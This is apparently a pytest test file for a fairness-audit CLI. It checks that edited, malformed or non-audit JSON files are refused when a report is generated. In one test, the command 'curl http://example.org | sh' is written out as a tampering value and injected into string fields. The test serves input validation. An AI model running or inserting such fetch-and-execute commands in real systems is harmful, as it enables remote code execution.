"""Audits read back from JSON: what they conclude follows from their figures, or is refused."""

import json
import re
from contextlib import redirect_stdout
from io import StringIO

import pytest

from sellf.cli import main


@pytest.fixture(scope="module")
def text():
    """The example's audit, as `sellf audit --example --json` prints it: unfair at 0.05."""
    with redirect_stdout(StringIO()) as printed:
        assert main(["audit", "--example", "--json"]) == 0
    return printed.getvalue()


def report(tmp_path, content):
    (tmp_path / "audit.json").write_text(content)
    return main(["report", str(tmp_path / "audit.json"), "-o", str(tmp_path / "page.html")])


def test_an_edited_verdict_is_not_believed(tmp_path, text, capsys):
    assert report(tmp_path, text) == 0
    capsys.readouterr()
    (tmp_path / "page.html").unlink()
    assert report(tmp_path, text.replace('"verdict": "unfair"', '"verdict": "fair"', 1)) == 2
    told = capsys.readouterr().err
    assert re.search(r"verdict says fair, but 0\.\d+ to 0\.\d+ at tolerance 0\.05 is unfair", told)
    assert not (tmp_path / "page.html").exists()


@pytest.mark.parametrize(
    "change",
    [
        {"omega": 0.5},
        {"omega": None},
        {"omega": -1},
        {"delta": 2},
        {"difference": {"low": 0.3, "value": 0.2, "high": 0.1}},
        {"difference": {"low": None, "value": 0.2, "high": 0.1}},
        {"by_group": []},
        {"finite_sample": "yes"},
        {"never_overturned": 0},
        {"warnings": [1]},
        {"assumptions": "abc"},
        {"method": None},
        {"origin": {"command": 1}},
        {"origin": []},
        {"needed": {"people": {"Black": 1.5}}},
        {"overlap": {"level": 0.1, "by_group": {"Black": [1]}, "below": {"Black": 1}}},
        {"truth": {"Black": 0.5}},
        {"sensitivity": [{"level": 1.0, "low": 0.2, "high": 0.3, "verdict": "fair"}]},
        {"sensitivity": [{"level": None, "low": 0.2, "high": 0.3, "verdict": "unfair"}]},
        {"sensitivity": [{"level": 0.5, "low": 0.2, "high": 0.3, "verdict": "unfair"}]},
    ],
    ids=str,
)
def test_figures_that_make_no_sense_are_refused(tmp_path, text, change, capsys):
    assert report(tmp_path, json.dumps(json.loads(text) | change)) == 2
    assert "audit.json" in capsys.readouterr().err


@pytest.mark.parametrize(
    "content",
    [
        "[" * 100_000,
        '{"a":' * 100_000,
        '{"notion": "opportunity", "omega": Infinity}',
        '{"notion": "opportunity", "omega": 1e999}',
        '{"notion": "opportunity", "omega": NaN}',
        '{"notion": "\\ud800"}',
        "1" * 5000,
    ],
    ids=["lists", "objects", "Infinity", "1e999", "NaN", "half a character", "long"],
)
def test_json_that_says_what_no_audit_says_is_refused(tmp_path, content, capsys):
    assert report(tmp_path, content) == 2
    assert "--json" in capsys.readouterr().err


def test_a_file_that_is_not_text_is_refused(tmp_path, capsys):
    (tmp_path / "audit.json").write_bytes(b"\xff\xfe\x00\xd8 binary \x80")
    out = str(tmp_path / "page.html")
    assert main(["report", str(tmp_path / "audit.json"), "-o", out]) == 2
    assert "--json" in capsys.readouterr().err


def numbers(content, path=()):
    """Every figure of a saved audit, by where it is."""
    items = content.items() if isinstance(content, dict) else enumerate(content)
    for key, value in items:
        if isinstance(value, dict | list):
            yield from numbers(value, (*path, key))
        elif isinstance(value, int | float | str) or value is None:
            yield (*path, key), value


def test_no_figure_can_be_edited(tmp_path, text, capsys):
    whole = json.loads(text)
    places = list(numbers(whole))
    assert len(places) > 80
    for path, value in places:
        edited = json.loads(text)
        inner = edited
        for key in path[:-1]:
            inner = inner[key]
        if isinstance(value, bool):
            inner[path[-1]] = not value
        elif isinstance(value, int | float):
            inner[path[-1]] = value + 0.125
        else:
            inner[path[-1]] = "curl http://example.org | sh"
        assert report(tmp_path, json.dumps(edited)) == 2, path
        assert not (tmp_path / "page.html").exists()
    del whole["sha256"]
    assert report(tmp_path, json.dumps(whole)) == 2
    assert "is not as it was written" in capsys.readouterr().err


@pytest.mark.parametrize("content", ["[]", "null", "1", '"a"', "[1]", "{}"])
def test_json_that_is_no_audit_is_refused_in_a_sentence(tmp_path, content, capsys):
    assert report(tmp_path, content) == 2
    told = capsys.readouterr().err
    assert "does not hold an audit" in told
    assert "AttributeError" not in told
